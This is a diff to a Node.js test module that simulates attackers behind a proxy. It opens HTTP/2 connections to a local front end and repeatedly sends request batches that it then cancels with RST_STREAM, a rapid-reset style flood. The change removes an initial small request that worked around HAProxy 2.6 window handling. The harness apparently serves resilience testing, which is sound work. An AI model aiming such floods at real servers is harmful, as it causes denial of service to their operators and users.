@@ -1,35 +1,16 @@
 // Attackers behind a proxy: each attack is repeated until it is stopped, and counts its repetitions.
 import { connect } from 'node:tls'
 import { setTimeout as pause } from 'node:timers/promises'
-import { firstFrame, frame, headers, join, kFlag, kPreface, kType, reset, settings, settingsAck, windowUpdate } from './http2_frames.mjs'
+import { frame, headers, join, kPreface, kType, reset, settings, settingsAck, windowUpdate } from './http2_frames.mjs'
 import { kLargePath } from './victims.mjs'
 
 const kBatch = 20
 const kLargestStream = 400 // then a new connection to the proxy, which may lead to another one behind it
 const kInFlightMs = 12 // so that requests have reached the program when they are cancelled
-const kFirstReadMs = 100
 const kHeldMs = 1_500
 
 /** Resolves at the event or at the end of the socket. */
 const next = (socket, event) => new Promise((resolve) => (socket.destroyed ? resolve() : socket.once(event, resolve).once('close', resolve)))
-
-/** Resolves at the end of an HTTP/2 stream or of the socket. */
-function endOfStream(socket, wanted) {
-  let bytes = Buffer.alloc(0)
-  return new Promise((resolve) => {
-    const onData = (piece) => {
-      bytes = Buffer.concat([bytes, piece])
-      for (let one = firstFrame(bytes); one; one = firstFrame(bytes)) {
-        if (one.stream === wanted && (one.type === kType.data || one.type === kType.headers) && (one.flags & kFlag.endStream)) {
-          socket.off('data', onData)
-          return resolve()
-        }
-        bytes = bytes.subarray(9 + one.payload.length)
-      }
-    }
-    socket.on('data', onData).once('close', resolve)
-  })
-}
 
 /** A TLS connection from an address of the attacker; errors only close it. */
 async function openTls({ front, ca, from, protocol }) {
@@ -49,17 +30,10 @@ const openHttp1 = (target) => openTls({ ...target, protocol: 'http/1.1' })
 const get = (front, path, more = []) => [[':method', 'GET'], [':scheme', 'https'], [':path', path], [':authority', `127.0.0.1:${front}`], ...more]
 const head = (front, line, ...fields) => `${line} HTTP/1.1\r\nHost: 127.0.0.1:${front}\r\n${fields.map((field) => `${field}\r\n`).join('')}\r\n`
 
-/**
- * RST_STREAM during responses. A small document is read first: HAProxy 2.6 enlarges its connection window (64 KiB)
- * with the first bytes of a request that is not cancelled, and does not restore it for bytes of cancelled ones. A connection on which
- * only cancelled requests came would block its next client, whatever the program behind it does.
- */
+/** RST_STREAM during responses, from the first request of a connection on. */
 async function cancelStreams(target, work) {
   const socket = await openHttp2(target)
-  const whole = endOfStream(socket, 1)
-  socket.write(headers(1, get(target.front, '/llms.txt')))
-  await Promise.all([whole, pause(kFirstReadMs)])
-  for (let stream = 3; work.isOn && !socket.destroyed && stream < kLargestStream;) {
+  for (let stream = 1; work.isOn && !socket.destroyed && stream < kLargestStream;) {
     const ids = Array.from({ length: kBatch }, () => { stream += 2; return stream - 2 })
     socket.write(join(ids.map((id) => headers(id, get(target.front, kLargePath)))))
     await pause(kInFlightMs)
